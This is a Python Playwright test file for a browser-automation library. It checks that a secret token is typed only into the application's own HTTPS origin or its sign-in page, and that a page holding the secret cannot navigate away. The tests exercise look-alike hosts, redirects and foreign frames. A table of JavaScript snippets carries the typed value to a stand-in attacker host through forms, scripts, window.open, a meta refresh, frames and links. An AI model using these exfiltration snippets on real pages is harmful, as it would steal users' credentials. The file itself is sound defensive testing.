"""Where secrets may be typed, and where a page that holds one may not go. The hosts exist in the browser alone."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Route

from runwright import AppSession, PageObject, Secret, SecretError
from runwright.pages.change_gate import ChangeGate

APP = "https://erp.merchant.example"
SIGN_IN = "https://accounts.merchant.example"
EVIL = "https://erp.merchant.example.evil.example"
TOKEN = Secret("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")
FIELD = '<form action="{action}" method="post" target="{target}"><input name="secret"><button>Next</button></form>'


class Log:
    """A change log that records nothing."""

    def change_intended(self, what: str) -> None:
        """Nothing is written down."""

    def change_done(self, what: str) -> None:
        """Nothing is written down."""


class World:
    """Hosts with one page each; every request that reached one is kept with what it brought."""

    def __init__(self, context: BrowserContext) -> None:
        self.pages: dict[str, str] = {}
        self.redirects: dict[str, str] = {}
        self.received: list[tuple[str, str]] = []
        context.route("**/*", self._answer)

    def _answer(self, route: Route) -> None:
        url = route.request.url
        self.received.append((url, route.request.post_data or ""))
        if url in self.redirects:
            script = f"<script>location.replace({self.redirects[url]!r})</script>"
            route.fulfill(body=script, content_type="text/html")
        else:
            route.fulfill(body=self.pages.get(url, "<p>nothing here</p>"), content_type="text/html")

    def holds(self, secret: Secret) -> list[str]:
        """Return the addresses that were sent the secret."""
        return [url for url, body in self.received if secret.reveal() in url + body]


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that no test needs to close, in which nothing waits for long."""
    context = browser.new_context()
    context.set_default_timeout(5000)
    yield context.new_page()
    context.close()


@pytest.fixture
def world(page: Page) -> World:
    """Hosts that only this browser context knows."""
    return World(page.context)


def session_on(page: Page, url: str = APP) -> AppSession:
    """Return the session of an application that lives at `url`."""
    return AppSession(name="erp", url=url, open_page=lambda: page, gate=ChangeGate(Log()), sign_in_origins=(SIGN_IN,))


def typed(page: Page) -> list[str]:
    """Return the values of the fields of every frame."""
    return [
        value
        for frame in page.frames
        for value in frame.locator("input").evaluate_all("all => all.map(each => each.value)")
    ]


@pytest.mark.parametrize("origin", [APP, SIGN_IN])
def test_a_secret_is_typed_into_the_application_and_its_sign_in(page: Page, world: World, origin: str) -> None:
    """The fields of the application and of its own sign-in take a secret."""
    world.pages[f"{origin}/"] = FIELD
    page.goto(f"{origin}/")
    session_on(page).fill_secret(page.locator("input"), TOKEN)
    assert typed(page) == [TOKEN.reveal()]


@pytest.mark.parametrize(
    "address",
    [
        f"{EVIL}/",
        "https://erp-merchant.example/",
        "https://erp.merchant.example:8443/",
        "https://xn--erp-merchnt-w9a.example/",
        "http://erp.merchant.example/",
    ],
)
def test_a_look_alike_gets_nothing(page: Page, world: World, address: str) -> None:
    """A host, a port or a scheme that only looks like the application's is refused, and nothing is typed."""
    world.pages[address] = FIELD
    page.goto(address)
    with pytest.raises(SecretError, match="which is not erp"):
        session_on(page).fill_secret(page.locator("input"), TOKEN)
    assert typed(page) == [""]


def test_a_redirect_gets_nothing(page: Page, world: World) -> None:
    """What matters is where the page has gone, not where it was opened."""
    world.redirects[f"{APP}/"] = f"{EVIL}/"
    world.pages[f"{EVIL}/"] = FIELD
    page.goto(f"{APP}/")
    page.wait_for_url(f"{EVIL}/")
    with pytest.raises(SecretError, match=r"evil\.example"):
        session_on(page).fill_secret(page.locator("input"), TOKEN)
    assert typed(page) == [""]


@pytest.mark.parametrize("inner", [f'src="{EVIL}/"', f"srcdoc='{FIELD}'", f"src='data:text/html,{FIELD}'"])
def test_a_foreign_frame_gets_nothing(page: Page, world: World, inner: str) -> None:
    """A field in a frame belongs to the frame's origin, whatever page is around it."""
    world.pages[f"{EVIL}/"] = FIELD
    world.pages[f"{APP}/"] = f"<iframe {inner}></iframe>"
    page.goto(f"{APP}/")
    with pytest.raises(SecretError):
        session_on(page).fill_secret(page.frame_locator("iframe").locator("input"), TOKEN)
    assert typed(page) == [""]


def test_an_unencrypted_application_gets_nothing(page: Page, world: World) -> None:
    """Plain http is for this computer only, even where it is the application's own address."""
    world.pages["http://erp.merchant.example/"] = FIELD
    page.goto("http://erp.merchant.example/")
    with pytest.raises(SecretError, match="not encrypted"):
        session_on(page, "http://erp.merchant.example").fill_secret(page.locator("input"), TOKEN)
    assert typed(page) == [""]


# ---------------------------------------------------------------- a page with a secret stays at home

AWAY: dict[str, Callable[[Page], object]] = {
    "a form": lambda page: page.locator("button").click(),
    "a script": lambda page: page.evaluate(f"location.href = '{EVIL}/?' + document.querySelector('input').value"),
    "a window": lambda page: page.evaluate(f"window.open('{EVIL}/?' + document.querySelector('input').value) && 0"),
    "a window without opener": lambda page: page.evaluate(
        f"window.open('{EVIL}/?' + document.querySelector('input').value, '_blank', 'noopener') && 0"
    ),
    "a form into a frame": lambda page: _send_into(page, "inner", "post"),
    "a form into a frame, in the address": lambda page: _send_into(page, "inner", "get"),
    "a form into a new window": lambda page: _send_into(page, "_blank", "post"),
    "a form with files into a frame": lambda page: _send_into(page, "inner", "post", "multipart/form-data"),
    "a refresh": lambda page: page.evaluate(
        "document.head.innerHTML = `<meta http-equiv=refresh content='0;url="
        + EVIL
        + "/?${document.querySelector('input').value}'>`"
    ),
    "a download": lambda page: _follow(page, "download"),
    "a link of a frame to the top": lambda page: page.evaluate(
        "document.querySelector('iframe').srcdoc = `<a target=_top href='"
        + EVIL
        + "/?${document.querySelector('input').value}'>x</a><script>document.links[0].click()</script>`"
    ),
    "a link without referrer": lambda page: _follow(page, "rel", "noreferrer", "_blank"),
    "an address of a frame": lambda page: page.evaluate(
        f"document.querySelector('iframe').src = '{EVIL}/?' + encodeURIComponent(document.querySelector('input').value)"
    ),
}


def _follow(page: Page, attribute: str, value: str = "", target: str = "") -> None:
    page.evaluate(
        """([evil, attribute, value, target]) => {
          const link = document.createElement('a');
          link.href = `${evil}/?${document.querySelector('input').value}`;
          link.setAttribute(attribute, value);
          if (target) link.target = target;
          document.body.append(link);
          link.click();
        }""",
        [EVIL, attribute, value, target],
    )


def _send_into(page: Page, target: str, method: str, encoding: str = "application/x-www-form-urlencoded") -> None:
    changed = {"target": target, "method": method, "enctype": encoding}
    page.locator("form").evaluate("(form, changed) => Object.assign(form, changed)", changed)
    page.locator("button").click()


def _leave(page: Page, way: str) -> None:
    AWAY[way](page)
    # A click does not wait for the navigation that it starts.
    page.locator("#of-another-page").wait_for()


@pytest.mark.parametrize("way", AWAY)
def test_a_page_with_a_secret_goes_nowhere_else(page: Page, world: World, way: str) -> None:
    """A form, a script, a frame or a window that would carry the secret off is stopped before anything is sent."""
    world.pages[f"{APP}/"] = FIELD.format(action=f"{EVIL}/", target="_self") + "<iframe name=inner></iframe>"
    page.goto(f"{APP}/")
    session = session_on(page)
    session.fill_secret(page.locator("input"), TOKEN)
    with pytest.raises(Error):
        _leave(page, way)
    assert world.holds(TOKEN) == []
    assert page.is_closed()
    with pytest.raises(SecretError, match=r"evil\.example with a secret on its page"):
        session.require_held()


def test_a_page_on_which_a_secret_was_read_is_held_too(page: Page, world: World) -> None:
    """It makes no difference whether the secret was typed into the page or read from it."""
    world.pages[f"{APP}/"] = FIELD.format(action=f"{EVIL}/", target="_self")
    page.goto(f"{APP}/")
    session = session_on(page)
    PageObject(session).secret_seen(TOKEN.reveal())
    with pytest.raises(Error):
        page.goto(f"{EVIL}/")
    with pytest.raises(SecretError):
        session.require_held()


def test_its_own_places_stay_open_and_the_next_document_is_free(page: Page, world: World) -> None:
    """The form reaches the application with the secret; the page it leads to may go anywhere again."""
    world.pages[f"{APP}/"] = FIELD.format(action=f"{SIGN_IN}/take", target="_self")
    page.goto(f"{APP}/")
    session = session_on(page)
    session.fill_secret(page.locator("input"), TOKEN)
    page.locator("button").click()
    page.wait_for_url(f"{SIGN_IN}/take")
    page.goto(f"{EVIL}/")
    session.require_held()
    assert world.holds(TOKEN) == [f"{SIGN_IN}/take"]
    assert page.url == f"{EVIL}/"


def test_frames_and_parts_of_the_page_may_come_from_elsewhere(page: Page, world: World) -> None:
    """Pictures, scripts and frames of other hosts are none of the top frame's navigations."""
    world.pages[f"{APP}/"] = FIELD
    page.goto(f"{APP}/")
    session = session_on(page)
    session.fill_secret(page.locator("input"), TOKEN)
    page.evaluate(f"fetch('{EVIL}/data', {{mode: 'no-cors'}}).then(() => 0)")
    page.evaluate(f"""() => new Promise(loaded => {{
      const frame = document.createElement('iframe');
      frame.onload = loaded; frame.src = '{EVIL}/frame'; document.body.append(frame);
    }})""")
    inner = next(each for each in page.frames if each.url.startswith(EVIL))
    with page.expect_request(f"{EVIL}/own"):
        inner.evaluate(
            "const form = document.createElement('form'); form.method = 'post'; form.action = '/own';"
            "document.body.append(form); form.submit()"
        )
    session.require_held()
    assert {f"{EVIL}/data", f"{EVIL}/frame"} <= {url for url, _ in world.received}


def test_other_pages_of_the_same_browser_context_are_free(page: Page, world: World) -> None:
    """Where applications share a context, as in the user's own Chrome, only the page with the secret is held."""
    world.pages[f"{APP}/"] = FIELD
    page.goto(f"{APP}/")
    session = session_on(page)
    session.fill_secret(page.locator("input"), TOKEN)
    other = page.context.new_page()
    other.goto(f"{EVIL}/")
    with other.expect_popup() as opened:
        other.evaluate(f"window.open('{EVIL}/popup') && 0")
    opened.value.wait_for_url(f"{EVIL}/popup")
    session.require_held()
    assert not page.is_closed()


def _secret_on(page: Page, world: World, session: AppSession) -> None:
    """Go to a page of the application in a tab, and type the secret there."""
    world.pages[f"{APP}/"] = FIELD.format(action=f"{EVIL}/", target="_self")
    page.goto(f"{APP}/")
    session.go_to_tab(page)
    session.fill_secret(page.locator("input"), TOKEN)


def test_a_page_is_held_after_a_popup_with_a_secret_was_closed(page: Page, world: World) -> None:
    """The popup has no next document: what is typed into its opener then must not leave with the opener."""
    page.goto(f"{APP}/")
    session = session_on(page)
    with page.expect_popup() as opened:
        page.evaluate("window.open('/popup') && 0")
    session.go_to_tab(opened.value)
    PageObject(session).secret_seen(TOKEN.reveal())
    opened.value.close()
    _secret_on(page, world, session)
    with pytest.raises(Error):
        _leave(page, "a script")
    assert world.holds(TOKEN) == []
    with pytest.raises(SecretError, match=r"evil\.example with a secret on its page"):
        session.require_held()


@pytest.mark.parametrize("freed", [0, 1])
def test_each_page_is_held_until_its_own_next_document(page: Page, world: World, freed: int) -> None:
    """Of two tabs with a secret, the one with a new document may go anywhere, and the other may not."""
    session, tabs = session_on(page), [page, page.context.new_page()]
    for tab in tabs:
        _secret_on(tab, world, session)
    free, held = tabs[freed], tabs[1 - freed]
    free.goto(f"{APP}/next")
    free.goto(f"{EVIL}/")
    session.require_held()
    with pytest.raises(Error):
        _leave(held, "a form")
    assert world.holds(TOKEN) == []
    assert (held.is_closed(), free.is_closed()) == (True, False)


def test_a_window_without_opener_is_stopped_where_two_tabs_have_a_secret(page: Page, world: World) -> None:
    """Nothing tells whose such a window is, but every tab that may have opened it is held."""
    session, other = session_on(page), page.context.new_page()
    for tab in (page, other):
        _secret_on(tab, world, session)
    with pytest.raises(Error):
        _leave(other, "a window without opener")
    assert world.holds(TOKEN) == []
